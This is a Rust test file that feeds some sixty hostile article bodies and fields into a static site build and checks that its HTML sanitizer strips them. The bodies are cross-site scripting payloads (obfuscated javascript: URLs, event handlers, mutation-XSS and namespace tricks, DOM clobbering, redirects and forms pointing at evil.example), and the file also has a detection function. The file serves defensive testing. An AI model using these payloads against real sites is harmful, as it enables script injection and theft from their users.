//! Hostile article bodies, titles, authors and tags, each built into a real
//! page and checked there as a browser would parse it: nothing can run script,
//! navigate, submit, restyle the page or clobber its globals.

mod common;

use common::*;
use scraper::{ElementRef, Html, Selector};

/// (technique, body HTML). Every body ends with the marker text `KEPT`, which
/// must still be on the page: the sanitizer removes the attack, not the article.
const BODIES: &[(&str, &str)] = &[
    // Script and event handlers.
    ("script", "<script>alert(1)</script>"),
    (
        "script with src",
        r#"<script src="https://evil.example/x.js"></script>"#,
    ),
    ("script upper case", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script split", "<scr<script>ipt>alert(1)</script>"),
    ("img onerror", r#"<img src="x" onerror="alert(1)">"#),
    ("body onload", r#"<body onload="alert(1)">"#),
    ("svg onload", r#"<svg onload="alert(1)"></svg>"#),
    (
        "details ontoggle",
        r#"<details open ontoggle="alert(1)"><summary>s</summary></details>"#,
    ),
    (
        "a onmouseover",
        r#"<a href="https://ok.example/" onmouseover="alert(1)">link</a>"#,
    ),
    (
        "video onerror",
        r#"<video><source onerror="alert(1)"></video>"#,
    ),
    (
        "input autofocus onfocus",
        r#"<input autofocus onfocus="alert(1)">"#,
    ),
    (
        "marquee onstart",
        r#"<marquee onstart="alert(1)">m</marquee>"#,
    ),
    ("event handler without quotes", "<p onclick=alert(1)>p</p>"),
    (
        "event handler with slash",
        r#"<img/src="x"/onerror="alert(1)">"#,
    ),
    // URL schemes, plain and obfuscated.
    ("javascript href", r#"<a href="javascript:alert(1)">j</a>"#),
    (
        "javascript mixed case",
        r#"<a href="JaVaScRiPt:alert(1)">j</a>"#,
    ),
    (
        "javascript entity encoded",
        r#"<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j</a>"#,
    ),
    (
        "javascript hex entities",
        r#"<a href="&#x6A;avascript&#x3A;alert(1)">j</a>"#,
    ),
    (
        "javascript tab inside",
        "<a href=\"java\tscript:alert(1)\">j</a>",
    ),
    (
        "javascript newline inside",
        "<a href=\"java\nscript:alert(1)\">j</a>",
    ),
    (
        "javascript leading space",
        r#"<a href="  javascript:alert(1)">j</a>"#,
    ),
    (
        "javascript entity tab",
        r#"<a href="jav&#x09;ascript:alert(1)">j</a>"#,
    ),
    (
        "data html",
        r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>"#,
    ),
    (
        "data image svg",
        r#"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
    ),
    ("vbscript", r#"<a href="vbscript:msgbox(1)">v</a>"#),
    (
        "javascript in img src",
        r#"<img src="javascript:alert(1)">"#,
    ),
    (
        "javascript in blockquote cite",
        r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
    ),
    (
        "protocol-relative to elsewhere",
        r#"<a href="//evil.example/x">p</a>"#,
    ),
    // SVG and MathML namespace confusion.
    ("svg script", r#"<svg><script>alert(1)</script></svg>"#),
    (
        "svg foreignObject",
        r#"<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>"#,
    ),
    (
        "svg animate href",
        r#"<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>t</text></a></svg>"#,
    ),
    (
        "svg use",
        r#"<svg><use href="data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x"/></svg>"#,
    ),
    (
        "math xlink",
        r#"<math><mi xlink:href="javascript:alert(1)">m</mi></math>"#,
    ),
    (
        "math mglyph style",
        r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
    ),
    (
        "svg style break-out",
        r#"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    ),
    // Mutation XSS through raw-text and template elements.
    (
        "noscript",
        r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
    ),
    ("style", r#"<style><img src=x onerror=alert(1)></style>"#),
    (
        "template",
        r#"<template><img src=x onerror=alert(1)></template>"#,
    ),
    (
        "textarea",
        r#"<textarea><img src=x onerror=alert(1)></textarea>"#,
    ),
    ("title", r#"<title><img src=x onerror=alert(1)></title>"#),
    ("xmp", r#"<xmp><img src=x onerror=alert(1)></xmp>"#),
    (
        "iframe srcdoc",
        r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    ),
    (
        "comment confusion",
        r#"<!--<img src="--><img src=x onerror=alert(1)//">"#,
    ),
    (
        "cdata in html",
        r#"<![CDATA[<img src=x onerror=alert(1)>]]>"#,
    ),
    // Meta refresh, base and other document-level elements.
    (
        "meta refresh",
        r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
    ),
    ("base href", r#"<base href="https://evil.example/">"#),
    (
        "link stylesheet",
        r#"<link rel="stylesheet" href="https://evil.example/x.css">"#,
    ),
    (
        "object",
        r#"<object data="https://evil.example/x.swf"></object>"#,
    ),
    ("embed", r#"<embed src="https://evil.example/x.swf">"#),
    ("iframe", r#"<iframe src="https://evil.example/"></iframe>"#),
    // Forms.
    (
        "form",
        r#"<form action="https://evil.example/"><input name="password"><button>Go</button></form>"#,
    ),
    (
        "formaction",
        r#"<button formaction="javascript:alert(1)">b</button>"#,
    ),
    ("select", "<select><option>o</option></select>"),
    // CSS.
    (
        "style attribute",
        r#"<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">p</p>"#,
    ),
    (
        "style expression",
        r#"<div style="width: expression(alert(1))">d</div>"#,
    ),
    (
        "style url",
        r#"<span style="background:url(javascript:alert(1))">s</span>"#,
    ),
    (
        "class of the theme",
        r#"<div class="skip-link site-header visually-hidden">d</div>"#,
    ),
    // DOM clobbering.
    ("id main", r#"<p id="main">p</p>"#),
    (
        "name attribute",
        r#"<img name="getElementById" src="https://ok.example/i.png" alt="i">"#,
    ),
    (
        "form name clobbering",
        r#"<form name="body"><input name="cookie"></form>"#,
    ),
    (
        "anchor id clobbering",
        r#"<a id="location" href="https://ok.example/">a</a>"#,
    ),
    ("heading id clobbering", r#"<h2 id="toc">Contents</h2>"#),
    // Broken nesting.
    ("unclosed tags", "<div><span><b><i>unclosed"),
    ("misnested", "<b><i>x</b></i><p><div>y</p></div>"),
    (
        "table break-out",
        r#"<table><tr><td><script>alert(1)</script></td></tr><img src=x onerror=alert(1)></table>"#,
    ),
    ("stray end tags", "</div></div></body></html><p>after</p>"),
    (
        "nested anchors",
        r#"<a href="https://ok.example/1"><a href="javascript:alert(1)">inner</a></a>"#,
    ),
];

/// Fields of an entry other than the body, hostile in the templates.
const TITLE: &str = "&lt;script&gt;alert(1)&lt;/script&gt;\"&gt;&lt;img src=x onerror=alert(2)&gt;";
const AUTHOR: &str = "&lt;svg onload=alert(3)&gt;\" onmouseover=\"alert(4)";
const TAG: &str = "\"&gt;&lt;script&gt;alert(5)&lt;/script&gt;";

fn escape(html: &str) -> String {
    html.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn hostile_site() -> Fixture {
    let mut items: String = BODIES
        .iter()
        .enumerate()
        .map(|(i, (_, body))| {
            format!(
                "<item><title>H{i:03}</title><link>https://blog.example/h{i}</link><guid>https://blog.example/h{i}</guid>\
                 <pubDate>Mon, 02 Feb 2026 10:00:00 +0000</pubDate><description>{}</description></item>",
                escape(&format!("<p>KEPT</p>{body}"))
            )
        })
        .collect();
    items.push_str(&format!(
        "<item><title>{TITLE}</title><link>https://blog.example/fields</link><dc:creator>{AUTHOR}</dc:creator>\
         <category>{TAG}</category><pubDate>Mon, 02 Feb 2026 10:00:00 +0000</pubDate><description>x</description></item>"
    ));
    Fixture::new(SITE_YAML, &[("hostile.xml", &rss("Hostile", &items))])
}

/// Ids the theme uses: a body must not be able to take one.
const THEME_IDS: &[&str] = &["main", "toc", "top", "search"];

/// What is wrong with `doc`, as a browser would parse it.
fn dangers(doc: &Html) -> Vec<String> {
    let mut found = Vec::new();
    let body = doc
        .select(&Selector::parse(".article-body").unwrap())
        .next();
    for el in doc
        .root_element()
        .descendants()
        .filter_map(ElementRef::wrap)
    {
        let name = el.value().name();
        if matches!(
            name,
            "script"
                | "iframe"
                | "object"
                | "embed"
                | "form"
                | "input"
                | "button"
                | "select"
                | "textarea"
                | "svg"
                | "math"
                | "base"
                | "style"
                | "template"
                | "frame"
                | "noscript"
        ) {
            found.push(format!("<{name}>"));
        }
        if name == "meta" && el.value().attr("http-equiv").is_some() {
            found.push("<meta http-equiv>".into());
        }
        for (attr, value) in el.value().attrs() {
            if attr.starts_with("on") || attr == "style" || attr == "formaction" || attr == "srcdoc"
            {
                found.push(format!("<{name} {attr}>"));
            }
            if matches!(
                attr,
                "href" | "src" | "cite" | "action" | "data" | "poster" | "srcset"
            ) {
                let v: String = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>()
                    .to_lowercase();
                let ok = v.starts_with("https://")
                    || v.starts_with("http://")
                    || v.starts_with("mailto:")
                    || v.starts_with('#')
                    || v.starts_with('/');
                if !ok {
                    found.push(format!("<{name} {attr}={value}>"));
                }
            }
        }
    }
    if let Some(body) = body {
        for el in body.descendants().filter_map(ElementRef::wrap) {
            if el.value().attr("name").is_some() {
                found.push(format!("<{} name> in the body", el.value().name()));
            }
            if let Some(id) = el.value().attr("id") {
                if THEME_IDS.contains(&id) {
                    found.push(format!("id={id} in the body"));
                }
            }
            if let Some(class) = el.value().attr("class") {
                for c in class.split_whitespace() {
                    if ["skip-link", "site-header", "visually-hidden"].contains(&c) {
                        found.push(format!("class {c} in the body"));
                    }
                }
            }
        }
    }
    found
}

#[test]
fn the_hostile_corpus_has_at_least_sixty_bodies() {
    assert!(BODIES.len() >= 60, "{}", BODIES.len());
}

#[test]
fn no_hostile_body_reaches_its_page() {
    let f = hostile_site();
    f.build().unwrap();
    for (i, (technique, body)) in BODIES.iter().enumerate() {
        let page = f.page(&format!("/articles/h{i:03}/"));
        let bad = dangers(&page);
        assert!(
            bad.is_empty(),
            "{technique}: {body}\n  reached the page as {bad:?}"
        );
        let text = text_of(&select(&page, ".article-body")[0]);
        assert!(
            text.contains("KEPT"),
            "{technique}: the article's own text is gone: {text}"
        );
    }
}

#[test]
fn hostile_titles_authors_and_tags_stay_text_on_every_page() {
    let f = hostile_site();
    f.build().unwrap();
    for (path, bytes) in tree(&f.public()) {
        // The search page's own script and field are checked by assert_no_script below.
        if path.ends_with(".html") && path != "search/index.html" {
            let bad = dangers(&Html::parse_document(&String::from_utf8_lossy(&bytes)));
            assert!(bad.is_empty(), "{path}: {bad:?}");
        }
    }
    assert_no_script(&f);
    // The hostile strings are shown as text, not dropped.
    let index = f.page("/");
    let titles: Vec<String> = select(&index, ".card-title a")
        .iter()
        .map(text_of)
        .collect();
    assert!(
        titles
            .iter()
            .any(|t| t.contains("<script>alert(1)</script>")),
        "{titles:?}"
    );
    let authors = f.page("/authors/");
    assert!(text_of(&select(&authors, "main")[0]).contains("<svg onload=alert(3)>"));
}
